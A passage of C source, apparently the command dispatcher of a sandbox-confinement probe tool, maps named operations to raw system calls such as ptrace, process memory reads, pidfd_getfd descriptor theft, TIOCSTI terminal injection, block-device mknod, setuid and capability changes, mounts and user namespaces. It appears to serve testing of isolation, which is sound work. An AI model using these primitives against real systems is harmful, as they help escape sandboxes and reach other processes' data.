	const char *a = argc > 2 ? argv[2] : NULL, *b = argc > 3 ? argv[3] : NULL, *c = argc > 4 ? argv[4] : NULL;
	setvbuf(stdout, NULL, _IOLBF, 0);
#define IS(name, nargs) (strcmp(op, name) == 0 && argc >= 2 + (nargs))
	if (IS("magic-open", 1))
		return op_magic_open(a);
	if (IS("site-open", 2))
		return op_site_open(a, b);
	if (IS("magic-exec", 1))
		return op_magic_exec(argv + 2);
	if (IS("opath-reopen", 1))
		return op_opath_reopen(a);
	if (IS("opath-link", 2))
		return op_opath_link(a, b);
	if (IS("mmap", 1))
		return op_mmap(a);
	if (IS("sendfile", 1))
		return op_sendfile(a);
	if (IS("copy", 2))
		return op_copy(a, b);
	if (IS("splice", 1))
		return op_splice(a);
	if (IS("race", 3))
		return op_race(a, b, c);
	if (IS("handle", 3))
		return op_handle(a, b, c);
	if (IS("name2handle", 1))
		return op_name2handle(a);
	if (IS("otrunc", 1))
		return result("open O_WRONLY|O_TRUNC", sys_open(a, O_WRONLY | O_TRUNC, 0));
	if (IS("punch", 1))
		return op_punch(a);
	if (IS("chmod", 2))
		return result("fchmodat", syscall(SYS_fchmodat, AT_FDCWD, a, strtoul(b, NULL, 8)));
	if (IS("suid", 1))
		return op_suid(a);
	if (IS("setcap", 1))
		return op_setcap(a);
	if (IS("mknod", 3))
		return result("mknodat block", syscall(SYS_mknodat, AT_FDCWD, a, S_IFBLK | 0666,
						       makedev((unsigned)atoi(b), (unsigned)atoi(c))));
	if (IS("umount", 2))
		return result("umount2", syscall(SYS_umount2, a, umount_flags(b)));
	if (IS("bind", 2))
		return result("mount MS_BIND", syscall(SYS_mount, a, b, NULL, MS_BIND, NULL));
	if (IS("open-tree", 2))
		return op_open_tree(a, b);
	if (IS("kill", 2))
		return result("kill", syscall(SYS_kill, atoi(a), atoi(b)));
	if (IS("pidfd-kill", 2)) {
		long pfd = syscall(SYS_pidfd_open, atoi(a), 0);
		if (result("pidfd_open", pfd))
			return 1;
		return result("pidfd_send_signal", syscall(SYS_pidfd_send_signal, pfd, atoi(b), NULL, 0));
	}
	if (IS("sigio", 1))
		return op_sigio(atoi(a));
	if (IS("ptrace", 1))
		return op_ptrace(atoi(a));
	if (IS("vmread", 2))
		return op_vmread(atoi(a), b);
	if (IS("pidfd-getfd", 2)) {
		long pfd = syscall(SYS_pidfd_open, atoi(a), 0);
		if (result("pidfd_open", pfd))
			return 1;
		long fd = syscall(SYS_pidfd_getfd, pfd, atoi(b), 0);
		return result("pidfd_getfd", fd) ? 1 : cat_fd(fd, "read");
	}
	if (IS("mem", 2))
		return op_mem(atoi(a), b);
	if (IS("keyctl", 1))
		return op_keyctl(a);
	if (IS("bpf", 0))
		return op_bpf();
	if (IS("perf", 0))
		return op_perf(0);
	if (IS("perf-cpu", 0))
		return op_perf(1);
	if (IS("io_uring", 0))
		return op_io_uring();
	if (IS("userfaultfd", 0))
		return result("userfaultfd", syscall(SYS_userfaultfd, O_CLOEXEC));
	if (IS("unshare-user", 0))
		return result("unshare CLONE_NEWUSER", syscall(SYS_unshare, CLONE_NEWUSER));
	if (IS("clone-user", 0))
		return op_clone_user();
	if (IS("clone3-user", 0))
		return op_clone3_user();
	if (IS("personality", 1))
		return result("personality", syscall(SYS_personality, strtoul(a, NULL, 16)));
	if (IS("tiocsti", 1))
		return op_tiocsti(a, TIOCSTI);
	if (IS("tiocsti-hi", 1))
		return op_tiocsti(a, 0xdead00000000ul | TIOCSTI);
	if (IS("int80", 1))
		return op_int80(a, b);
	if (IS("exec", 1))
		return op_exec(argc - 2, argv + 2, 0);
	if (IS("memfd-exec", 1))
		return op_exec(argc - 2, argv + 2, 1);
	if (IS("tcp", 3))
		return op_inet(SOCK_STREAM, a, b, c);
	if (IS("udp", 3))
		return op_inet(SOCK_DGRAM, a, b, c);
	if (IS("udp-connect", 2)) {
		struct sockaddr_storage ss;
		socklen_t len;
		if (inet_addr_of(a, b, &ss, &len) != 0)
			return usage();
		long fd = syscall(SYS_socket, ss.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
		if (result("socket", fd))
			return 1;
		return result("connect", syscall(SYS_connect, fd, &ss, len));
	}
	if (IS("unix", 2))
		return op_unix(SOCK_STREAM, a, b);
	if (IS("unix-dgram", 2))
		return op_unix(SOCK_DGRAM, a, b);
	if (IS("socket", 1))
		return op_socket(a);
	return usage();
}
